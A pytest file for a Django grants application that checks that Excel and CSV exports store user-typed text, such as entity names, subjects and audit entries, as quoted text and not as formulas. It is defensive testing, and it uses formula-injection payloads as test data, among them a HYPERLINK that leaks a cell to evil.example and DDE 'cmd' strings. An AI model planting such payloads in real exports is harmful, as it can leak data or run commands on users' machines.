"""Formula injection: text that anyone can type (an anonymous registration's entity name, an applicant's
subject, an object's name in the audit trail) reaches the Excel and CSV exports as text, never as a
formula (ipcity.core.excel). Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from ipcity.core.excel import csv_unquote
from ipcity.orgs.models import Entity

from .conftest import World

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def _register(name: str, uscc: str, plan_office: Any) -> Any:
    from ipcity.accounts.models import User
    from ipcity.accounts.services import user_confirm_entity

    response = Client().post(
        "/accounts/register/",
        {
            "uscc": uscc,
            "entity_name": name,
            "entity_kind": "enterprise",
            "district": "",
            "contact_phone": "+1+cmd|' /C calc'!A0",
            "display_name": "@SUM(1+1)",
            "email": "x@example.cn",
            "username": "formula",
            "password": "Yantai2024-ok",
            "password2": "Yantai2024-ok",
        },
    )
    assert response.status_code == 302, response.content
    # A self-registration waits for the plan office (ADR 0006); confirm it as the office would.
    user = user_confirm_entity(actor=plan_office, user=User.objects.get(username="formula"))
    assert user.entity is not None and user.entity.name == name  # stored as typed
    return user


def _as(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_an_anonymous_entity_name_and_an_applicants_subject_stay_text_in_the_applications_xlsx(
    world: World,
) -> None:
    applicant = _register(LINK, _uscc(), world.plan_office)
    app = world.submitted(applicant=applicant, subject="-2+3+cmd|' /C calc'!A0")
    response = _as(world.plan_office).get(f"/grants/calls/{world.call.pk}/export/applications.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == app.pk)
    entity, subject, computed = row[1], row[5], row[7]
    assert (entity.value, entity.data_type, entity.quotePrefix) == (LINK, "s", True)
    assert (subject.value, subject.data_type, subject.quotePrefix) == ("-2+3+cmd|' /C calc'!A0", "s", True)
    assert isinstance(computed.value, int | float) and computed.data_type == "n"  # numbers stay numbers
    assert "<f>" not in _sheet_xml(response.content)


def test_the_entity_csv_and_the_audit_csv_quote_text_that_would_run(world: World) -> None:
    applicant = _register(LINK, _uscc(), world.plan_office)
    entity = Entity.objects.get(pk=applicant.entity_id)
    rows = _csv(_as(world.plan_office).get("/orgs/entities/export.csv", {"q": entity.uscc}))
    (row,) = [r for r in rows[1:] if r[0] == entity.uscc]
    assert row[1] == "'" + LINK and csv_unquote(row[1]) == LINK
    assert row[6] == "'+1+cmd|' /C calc'!A0"

    rows = _csv(_as(world.auditor).get("/audit/export.csv"))
    header = rows[0]
    reprs = [r[header.index("object")] for r in rows[1:]]
    assert "'" + LINK in reprs and LINK not in reprs
    assert not [cell for r in rows[1:] for cell in r if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert all(r[header.index("seq")].isdigit() for r in rows[1:])  # numbers are written as they are


def _uscc() -> str:
    from ipcity.core.identifiers.uscc import check_character

    prefix = "91370602MA3F12345"
    return prefix + check_character(prefix)


def _sheet_xml(content: bytes) -> str:
    import zipfile

    book = zipfile.ZipFile(io.BytesIO(content))
    return "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/"))
